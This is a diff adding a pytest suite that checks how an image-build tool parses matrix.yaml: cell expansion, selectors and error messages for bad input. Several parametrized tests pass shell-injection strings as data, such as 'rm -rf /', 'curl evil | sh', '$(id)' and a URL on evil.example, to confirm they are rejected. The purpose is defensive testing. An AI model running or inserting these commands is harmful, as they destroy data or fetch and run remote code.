@@ -1,0 +1,363 @@
+"""Matrix expansion, selectors and every bad input, each asserting its message."""
+
+from __future__ import annotations
+
+import json
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from imagegen import matrix
+from imagegen.errors import UserInputError
+
+ROOT = Path(__file__).resolve().parents[2]
+
+MINIMAL = """
+default: paddle:2.6.2
+frameworks:
+  paddle:
+    "2.6.2":
+      devices: [cpu, gpu]
+      cuda: ["11.8"]
+    "3.3.1":
+      devices: [cpu]
+"""
+
+
+def write(tmp_path: Path, text: str) -> Path:
+    p = tmp_path / "matrix.yaml"
+    p.write_text(textwrap.dedent(text))
+    return p
+
+
+def load_text(tmp_path: Path, text: str) -> matrix.Matrix:
+    return matrix.load(write(tmp_path, text))
+
+
+def error_of(tmp_path: Path, text: str) -> str:
+    with pytest.raises(UserInputError) as exc:
+        load_text(tmp_path, text)
+    assert exc.value.exit_code == 2
+    msg = str(exc.value)
+    assert "\n" not in msg
+    return msg
+
+
+# --- expansion ----------------------------------------------------------------------------------
+
+def test_default_matrix_cells():
+    m = matrix.load(ROOT / "matrix.yaml")
+    refs = {c.ref for c in m.active}
+    assert {
+        "paddle:2.6.2-cpu-slim", "paddle:2.6.2-cpu-full",
+        "paddle:2.6.2-gpu-cuda11.8-cudnn8.6-slim", "paddle:2.6.2-gpu-cuda11.8-cudnn8.6-full",
+        "paddle:3.3.1-cpu-slim", "paddle:3.3.1-cpu-full",
+        "paddle:3.3.1-gpu-cuda11.8-cudnn8.9-slim", "paddle:3.3.1-gpu-cuda12.6-cudnn9.5-slim",
+        "onnxruntime:1.23.2-cpu-slim", "pytorch:2.13.0-cpu-slim",
+    } == refs
+    excluded = {c.ref: c.excluded for c in m.excluded}
+    assert set(excluded) == {"paddle:3.3.1-gpu-cuda11.8-cudnn8.9-full", "paddle:3.3.1-gpu-cuda12.6-cudnn9.5-full"}
+    assert all("official images" in r for r in excluded.values())
+
+
+def test_gpu_cell_gets_cuda_runtime_wheels_from_data():
+    m = matrix.load(ROOT / "matrix.yaml")
+    (cell,) = m.select(["gpu-cuda11.8-slim"])
+    assert cell.ref == "paddle:2.6.2-gpu-cuda11.8-cudnn8.6-slim"
+    assert cell.cudnn == "8.6.0" and cell.cudnn_short == "8.6"
+    reqs = set(cell.requirements)
+    assert "paddlepaddle-gpu==2.6.2" in reqs
+    assert "nvidia-cudnn-cu11==8.6.0.163" in reqs
+    assert "nvidia-cublas-cu11==11.11.3.6" in reqs
+    assert "nvidia-cuda-runtime-cu11==11.8.89" in reqs
+    assert len([r for r in reqs if r.startswith("nvidia-")]) == 10
+    assert cell.indexes == ()  # PyPI
+
+
+def test_paddle3_gpu_comes_from_paddles_index_without_extra_wheels():
+    m = matrix.load(ROOT / "matrix.yaml")
+    (cell,) = m.select(["paddle:3.3.1-gpu-cuda12.6-slim"])
+    assert cell.requirements == ("paddlepaddle-gpu==3.3.1",)
+    assert cell.indexes[0].name == "paddle-cu126"
+    assert cell.cudnn == "9.5.1"
+
+
+def test_budgets_overrides_later_rules_win():
+    m = matrix.load(ROOT / "matrix.yaml")
+    assert m.select(["paddle:3.3.1-cpu-slim"])[0].budget_size == 800_000_000
+    assert m.select(["paddle:3.3.1-cpu-slim"])[0].budget_compressed == 300_000_000
+    assert m.select(["onnxruntime:cpu-slim"])[0].budget_size == 1_000_000_000
+    gpu = m.select(["gpu-cuda11.8-slim"])[0]
+    assert gpu.budget_size == 4_500_000_000
+    assert gpu.slimming.cudnn_train and gpu.slimming.flashattn
+    assert not m.select(["gpu-cuda11.8-full"])[0].slimming.cudnn_train
+
+
+def test_flavor_defaults_differ():
+    m = matrix.load(ROOT / "matrix.yaml")
+    slim, full = m.select(["cpu-slim"])[0], m.select(["cpu-full"])[0]
+    assert slim.slimming.headers and slim.slimming.pip
+    assert not full.slimming.headers and not full.slimming.pip
+    assert slim.runtime_role == "runtime" and full.runtime_role == "dev"
+
+
+def test_multiple_pythons_get_a_python_tag_component(tmp_path):
+    m = load_text(tmp_path, """
+        bases:
+          bookworm312:
+            source: registry
+            libc: glibc
+            python: "3.12"
+            roles:
+              runtime: {ref: "example/py:3.12@sha256:0000000000000000000000000000000000000000000000000000000000000000"}
+              builder: {ref: "example/py:3.12@sha256:0000000000000000000000000000000000000000000000000000000000000000"}
+              dev: {ref: "example/py:3.12@sha256:0000000000000000000000000000000000000000000000000000000000000000"}
+        frameworks:
+          onnxruntime:
+            "1.23.2": {flavors: [slim], python: ["3.11"]}
+    """)
+    assert [c.ref for c in m.active] == ["onnxruntime:1.23.2-cpu-slim"]
+
+
+def test_remote_ref_uses_registry_and_namespace(tmp_path):
+    m = load_text(tmp_path, "registry: registry.example.com:5000\nnamespace: ml/images\n" + MINIMAL)
+    assert m.active[0].remote_ref == "registry.example.com:5000/ml/images/paddle:2.6.2-cpu-slim"
+
+
+# --- selectors ----------------------------------------------------------------------------------
+
+def test_selectors(tmp_path):
+    m = load_text(tmp_path, MINIMAL + "    \"3.3.1\":\n" if False else MINIMAL)
+    assert [c.ref for c in m.select(["cpu-slim"])] == ["paddle:2.6.2-cpu-slim"]  # default scope
+    assert [c.ref for c in m.select(["gpu-cuda11.8-slim"])] == ["paddle:2.6.2-gpu-cuda11.8-cudnn8.6-slim"]
+    assert [c.ref for c in m.select(["paddle:2.6.2-gpu-cuda11.8-cudnn8.6-slim"])] == [
+        "paddle:2.6.2-gpu-cuda11.8-cudnn8.6-slim"]
+    assert [c.ref for c in m.select(["3.3.1-cpu-full"])] == ["paddle:3.3.1-cpu-full"]
+    assert len(m.select(["paddle:*-slim"])) == 3
+
+
+def test_ambiguous_selector_lists_candidates(tmp_path):
+    m = load_text(tmp_path, MINIMAL)
+    with pytest.raises(UserInputError) as exc:
+        m.select(["paddle:cpu-slim"])
+    assert "ambiguous" in str(exc.value)
+    assert "paddle:2.6.2-cpu-slim" in str(exc.value) and "paddle:3.3.1-cpu-slim" in str(exc.value)
+
+
+def test_unknown_selector_suggests(tmp_path):
+    m = load_text(tmp_path, MINIMAL)
+    with pytest.raises(UserInputError, match="did you mean cpu-slim"):
+        m.select(["cpu-slimm"])
+    with pytest.raises(UserInputError, match="matches no cell"):
+        m.select(["tensorflow:*"])
+
+
+def test_excluded_selector_says_why(tmp_path):
+    m = load_text(tmp_path, MINIMAL + "exclude:\n  - {match: 'paddle:3.3.1-cpu-full', reason: not needed}\n")
+    with pytest.raises(UserInputError, match="excluded from the matrix: not needed"):
+        m.select(["3.3.1-cpu-full"])
+
+
+# --- bad input ----------------------------------------------------------------------------------
+
+def test_malformed_yaml_points_at_line(tmp_path):
+    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.6.2\": {devices: [cpu\n")
+    assert "malformed YAML" in msg and "matrix.yaml:" in msg
+
+
+def test_unknown_key_did_you_mean(tmp_path):
+    msg = error_of(tmp_path, """
+        frameworks:
+          paddle:
+            "2.6.2":
+              devics: [cpu]
+    """)
+    assert "matrix.yaml:5:" in msg
+    assert "unknown key 'devics'" in msg and "did you mean 'devices'" in msg
+
+
+def test_unknown_top_level_key(tmp_path):
+    msg = error_of(tmp_path, "framework:\n  paddle: {}\n")
+    assert "unknown key 'framework'" in msg and "did you mean 'frameworks'" in msg and "matrix.yaml:1:" in msg
+
+
+def test_unknown_slimming_rule(tmp_path):
+    msg = error_of(tmp_path, MINIMAL + "defaults:\n  slimming: {strp: true}\n")
+    assert "unknown key 'strp'" in msg and "did you mean 'strip'" in msg
+
+
+def test_invalid_version(tmp_path):
+    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.6.x\": {devices: [cpu]}\n")
+    assert "matrix.yaml:3:" in msg and "'2.6.x' is not a valid version" in msg
+
+
+def test_unknown_framework(tmp_path):
+    msg = error_of(tmp_path, "frameworks:\n  padle:\n    \"2.6.2\": {}\n")
+    assert "unknown framework 'padle'" in msg and "did you mean 'paddle'" in msg
+
+
+def test_impossible_cuda(tmp_path):
+    msg = error_of(tmp_path, """
+        frameworks:
+          paddle:
+            "2.6.2":
+              devices: [gpu]
+              cuda: ["12.6"]
+    """)
+    assert "paddle 2.6.2 has no CUDA 12.6 build; it supports 11.2, 11.6, 11.7, 11.8, 12.0" in msg
+    assert "matrix.yaml:6:" in msg
+
+
+def test_wrong_cudnn(tmp_path):
+    msg = error_of(tmp_path, """
+        frameworks:
+          paddle:
+            "2.6.2":
+              devices: [gpu]
+              cuda: [{version: "11.8", cudnn: "8.9"}]
+    """)
+    assert "built with cuDNN 8.6.0, not 8.9" in msg
+
+
+def test_unsupported_python(tmp_path):
+    msg = error_of(tmp_path, """
+        frameworks:
+          paddle:
+            "2.6.2":
+              python: ["3.13"]
+    """)
+    assert "paddle 2.6.2 supports Python 3.8, 3.9, 3.10, 3.11, 3.12, not 3.13" in msg
+
+
+def test_python_float_is_not_mangled(tmp_path):
+    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.6.2\":\n      python: [3.10]\n")
+    assert "base 'bookworm' provides Python 3.11, not 3.10" in msg
+
+
+def test_musl_base_rejected_with_reason(tmp_path):
+    msg = error_of(tmp_path, """
+        frameworks:
+          paddle:
+            "2.6.2":
+              base: alpine3.20
+              python: ["3.12"]
+    """)
+    assert "publishes only manylinux (glibc) wheels, which do not run on musl" in msg
+
+
+def test_gpu_on_cpu_only_framework(tmp_path):
+    msg = error_of(tmp_path, "frameworks:\n  onnxruntime:\n    \"1.23.2\": {devices: [gpu], cuda: ['11.8']}\n")
+    assert "onnxruntime 1.23.2 has no GPU build" in msg
+
+
+def test_unknown_framework_version(tmp_path):
+    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.7.0\": {}\n")
+    assert "paddle 2.7.0 is not in imagegen's compatibility data (known versions: 2.6.2, 3.3.1)" in msg
+
+
+def test_duplicate_yaml_key(tmp_path):
+    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.6.2\": {}\n    \"2.6.2\": {}\n")
+    assert "matrix.yaml:4: duplicate key '2.6.2' (first defined at line 3)" in msg
+
+
+def test_duplicate_cells_by_equal_versions(tmp_path):
+    msg = error_of(tmp_path, "frameworks:\n  paddle:\n    \"2.6.2\": {}\n    \"2.6.2.0\": {}\n")
+    assert "duplicate cells" in msg
+
+
+def test_duplicate_cells_by_include(tmp_path):
+    msg = error_of(tmp_path, MINIMAL + "include:\n  - {framework: paddle, version: 2.6.2, device: cpu, flavor: slim}\n")
+    assert "duplicate cells: paddle:2.6.2-cpu-slim is already defined at" in msg
+
+
+def test_invalid_docker_names(tmp_path):
+    msg = error_of(tmp_path, "namespace: My_Team\n" + MINIMAL)
+    assert "'My_Team' is not a valid image namespace" in msg
+    msg = error_of(tmp_path, "registry: 'reg istry'\n" + MINIMAL)
+    assert "not a valid registry" in msg
+
+
+@pytest.mark.parametrize("req", [
+    "numpy; rm -rf /",
+    "numpy==1.0 && curl evil | sh",
+    "numpy`id`",
+    "numpy $(id)",
+    "pkg @ https://evil.example/x.whl",
+])
+def test_shell_injection_in_requirements_rejected(tmp_path, req):
+    text = MINIMAL.replace('devices: [cpu]\n', 'devices: [cpu]\n      extra_requirements: [' + json.dumps(req) + ']\n', 1)
+    # MINIMAL's 3.3.1 entry is the last "devices: [cpu]"
+    text = MINIMAL + f'overrides:\n  - match: "*"\n    extra_requirements: [{json.dumps(req)}]\n'
+    msg = error_of(tmp_path, text)
+    assert "requirement" in msg or "not allowed" in msg
+
+
+@pytest.mark.parametrize("url", ["https://x.example/simple; rm -rf /", "ftp://x.example", "https://x/$(id)", "javascript:alert(1)"])
+def test_shell_injection_in_index_rejected(tmp_path, url):
+    msg = error_of(tmp_path, MINIMAL + f"indexes:\n  mirror: {{url: {json.dumps(url)}}}\n")
+    assert "url" in msg.lower()
+
+
+def test_debian_package_names_validated(tmp_path):
+    msg = error_of(tmp_path, MINIMAL + """
+bases:
+  mine:
+    source: bootstrap
+    libc: glibc
+    python: "3.11"
+    suite: bookworm
+    roles:
+      runtime: {variant: extract, packages: ["libc6; touch /x"]}
+      builder: {variant: minbase, packages: []}
+      dev: {variant: minbase, packages: []}
+""")
+    assert "is not a Debian package name" in msg
+
+
+def test_registry_base_must_be_pinned(tmp_path):
+    msg = error_of(tmp_path, MINIMAL + """
+bases:
+  slim:
+    source: registry
+    libc: glibc
+    python: "3.11"
+    roles:
+      runtime: {ref: "debian:bookworm-slim"}
+      builder: {ref: "debian:bookworm-slim"}
+      dev: {ref: "debian:bookworm-slim"}
+""")
+    assert "must be pinned by digest" in msg
+
+
+def test_exclude_that_matches_nothing(tmp_path):
+    msg = error_of(tmp_path, MINIMAL + "exclude:\n  - {match: 'paddle:9.9*'}\n")
+    assert "matches no cell" in msg
+
+
+def test_bad_size(tmp_path):
+    msg = error_of(tmp_path, MINIMAL + "budgets:\n  - {match: '*', size: lots}\n")
+    assert "'lots' is not a size" in msg
+
+
+def test_empty_and_non_mapping(tmp_path):
+    assert "must be a mapping" in error_of(tmp_path, "- a\n- b\n")
+    assert "frameworks" in error_of(tmp_path, "")
+
+
+def test_json_schema_lists_keys():
+    schema = matrix.json_schema()
+    assert schema["title"] == "imagegen matrix.yaml"
+    assert "frameworks" in schema["properties"]
+    assert schema["properties"]["frameworks"]["propertyNames"]["enum"] == ["onnxruntime", "paddle", "torch"]
+
+
+def test_committed_schema_is_current():
+    committed = json.loads((ROOT / "matrix.schema.json").read_text())
+    assert committed == json.loads(json.dumps(matrix.json_schema())), "run `imagegen schema -o matrix.schema.json`"
+
+
+@pytest.mark.parametrize("text,expected", [("800MB", 800_000_000), ("4.5GB", 4_500_000_000), ("2GiB", 2 * 2**30),
+                                           (1234, 1234), ("10 kb", 10_000)])
+def test_parse_size(text, expected):
+    assert matrix.parse_size(text) == expected
